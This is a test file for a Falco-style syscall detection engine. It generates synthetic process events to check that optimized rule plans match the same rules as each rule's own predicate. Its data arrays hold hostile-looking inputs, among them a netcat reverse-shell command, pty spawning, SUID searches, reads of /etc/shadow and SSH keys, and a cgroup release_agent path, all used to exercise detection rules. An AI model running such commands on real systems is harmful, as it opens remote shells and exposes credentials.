// The per-type plans (evt.type folded, repeated subtrees computed once per event) against the
// rules' own predicates, over the upstream ruleset and thousands of synthetic records that reach
// deep into the rules: the same rules match every event. The processor reuses one event object
// for every record, so a value kept from one event and read for another would show here.
import { beforeAll, describe, expect, it } from 'vitest';
import { RuleSet, type CompiledRule } from '../../src/engine/ruleset.js';
import type { SyscallEvent } from '../../src/sources/syscall/syscall-event.js';
import { builtinSources } from '../../src/agent/source-list.js';
import { buildScenario } from '../../src/sources/syscall/scenario/synthetic.js';
import { haveUpstream, processorFor, UPSTREAM, upstreamRules } from '../sources/syscall/helpers.js';

if (!haveUpstream) console.warn(`SKIPPED: upstream Falco rules not found at ${UPSTREAM}`);

// Deterministic pseudo-random numbers (mulberry32).
function rng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const NAMES = ['nginx', 'bash', 'sh', 'sshd', 'tar', 'python3', 'java', 'node', 'apt', 'dpkg', 'cron', 'crontab', 'nc', 'curl', 'sed', 'runc:[1:CHILD]', 'kubelet', 'containerd', 'perl', 'mysqld', 'sudo'];
const FILES = [
  '/etc/shadow', '/etc/passwd', '/etc/sudoers', '/etc/pam.d/sshd', '/etc/ld.so.cache', '/etc/cron.d/job', '/etc/apt/sources.list',
  '/root/.ssh/authorized_keys', '/root/.bashrc', '/home/alice/.ssh/id_rsa', '/home/alice/.bash_history', '/bin/ls', '/usr/bin/x',
  '/dev/sda', '/dev/null', '/dev/shm/x', '/proc/1/environ', '/proc/self/stat', '/var/log/syslog', '/var/lib/rpm/Packages',
  '/sys/fs/cgroup/release_agent', '/tmp/../etc/shadow', 'rel/file', '/usr/lib/liblzma.so.5.6.0', '/boot/vmlinuz', '/lib/x.so',
];
const FLAGS = ['O_RDONLY', 'O_RDONLY|O_CLOEXEC', 'O_WRONLY|O_CREAT|O_TRUNC', 'O_RDWR', 'O_WRONLY|O_APPEND', 'O_RDONLY|O_DIRECTORY', 'O_WRONLY|O_CREAT'];
const PEERS = ['10.0.0.8:443', '8.8.8.8:53', '169.254.169.254:80', '1.2.3.4:4444', '127.0.0.1:6379', '192.168.1.1:22', '203.0.113.9:8080', '[fd00::9]:443', '[2001:db8::1]:22'];
const EXECS = [
  '/bin/sh -c id', '/bin/bash -i', '/usr/bin/nc -e /bin/sh 1.2.3.4 4444', '/usr/bin/curl http://x', '/dev/shm/payload', '/usr/bin/crontab -e',
  '/usr/bin/find / -perm -4000', '/usr/bin/base64 -d', '/tmp/x', '/usr/bin/sudo -l', '/usr/bin/python3 -c import pty', '/usr/bin/ls -la',
];

/** A scenario reaching many rule branches: shells under servers, containers, sensitive files, odd peers, links, ptrace. */
function scenario(seed: number, statements: number): string {
  const r = rng(seed);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)]!;
  const lines = [
    'user 0 root',
    'user 1000 alice',
    'container web1 name=web image=nginx:1.25',
    'container priv1 name=tool image=docker.io/library/busybox:1 privileged=true',
    'proc systemd pid=1 exe=/sbin/init',
  ];
  const pids: number[] = [];
  for (let i = 0; i < 24; i++) {
    const name = NAMES[i % NAMES.length]!;
    const pid = 100 + i;
    const container = i % 3 === 0 ? ' container=web1' : i % 7 === 0 ? ' container=priv1' : '';
    const parent = i > 3 && r() < 0.5 ? pick(pids) : 1;
    lines.push(`proc ${name} pid=${pid} parent=${parent} exe=/usr/bin/${name} uid=${r() < 0.5 ? 0 : 1000}${r() < 0.3 ? ' tty=34816' : ''}${container}`);
    pids.push(pid);
  }
  for (let n = 0; n < statements; n++) {
    const pid = pick(pids);
    const x = r();
    if (x < 0.45) {
      lines.push(`${pid} ${pick(['open', 'openat', 'openat2'])} ${r() < 0.1 ? 'res=ENOENT ' : ''}${pick(FILES)} ${pick(FLAGS)}`);
      if (r() < 0.5) lines.push(`${pid} close 3`);
    } else if (x < 0.65) {
      lines.push(`${pid} connect ${r() < 0.2 ? 'proto=udp ' : ''}${pick(PEERS)}`);
    } else if (x < 0.8) {
      lines.push(`${pid} spawn ${pick(EXECS)}`);
    } else if (x < 0.85) {
      lines.push(`${pid} symlink ${pick(FILES)} /tmp/link${n}`);
    } else if (x < 0.88) {
      lines.push(`${pid} rename ${pick(FILES)} /tmp/renamed${n}`);
    } else if (x < 0.9) {
      lines.push(`${pid} unlink ${pick(FILES)}`);
    } else if (x < 0.92) {
      lines.push(`${pid} ptrace ${pick(['PTRACE_ATTACH', 'PTRACE_POKETEXT', 'PTRACE_TRACEME'])} 1`);
    } else if (x < 0.94) {
      lines.push(`${pid} memfd_create x`);
    } else if (x < 0.96) {
      lines.push(`${pid} setuid ${pick([0, 1000])}`);
    } else if (x < 0.98) {
      lines.push(`${pid} chmod ${pick(FILES)} ${pick(['0777', '04755', '0644'])}`);
    } else {
      lines.push(`${pid} mkdir ${pick(['/etc/x', '/bin/y', '/root/.ssh', '/tmp/z'])}`);
    }
  }
  return lines.join('\n');
}

/** The rules that match `e`, each rule's own (unfolded, unshared) predicate deciding, in load order. */
function reference(rules: readonly CompiledRule<SyscallEvent>[], e: SyscallEvent): string[] {
  const out: string[] = [];
  for (const r of rules) {
    try {
      if (r.predicate(e)) out.push(r.name);
    } catch {
      // counted as not matching, as the rule set does
    }
  }
  return out;
}

describe.skipIf(!haveUpstream)('per-type plans over the upstream rules', () => {
  let all: RuleSet;
  let first: RuleSet;

  beforeAll(async () => {
    const loaded = await upstreamRules();
    expect(loaded.errors).toEqual([]);
    const sources = builtinSources();
    all = new RuleSet(loaded.compiled, sources, { ruleMatching: 'all', hostname: 'h' });
    first = new RuleSet(loaded.compiled, sources, { hostname: 'h' });
  });

  it('match exactly the rules the rules’ own predicates match, event after event', () => {
    const rsAll = all.forSource<SyscallEvent>('syscall')!;
    const rsFirst = first.forSource<SyscallEvent>('syscall')!;
    const matched = new Set<string>();
    let events = 0;
    let alerting = 0;
    for (const seed of [1, 2, 3]) {
      const s = buildScenario(scenario(seed, 1500));
      const { processor } = processorFor(s);
      processor.process(s.records, (e) => {
        events++;
        const want = reference(rsAll.rulesForType(e.type), e);
        const got = rsAll.evaluate(e).map((a) => a.rule);
        expect(got, `record ${e.num} (${e.spec.name})`).toEqual(want);
        expect(rsFirst.match(e)?.name).toBe(want[0]);
        if (want.length > 0) alerting++;
        for (const n of want) matched.add(n);
      });
    }
    expect(rsAll.evaluationErrors).toBe(0);
    // not vacuous: the mix reaches many rules, and most events match none
    expect(events).toBeGreaterThan(6000);
    expect(alerting).toBeGreaterThan(500);
    expect(alerting).toBeLessThan(events / 2);
    expect(matched.size).toBeGreaterThanOrEqual(30);
  });
});
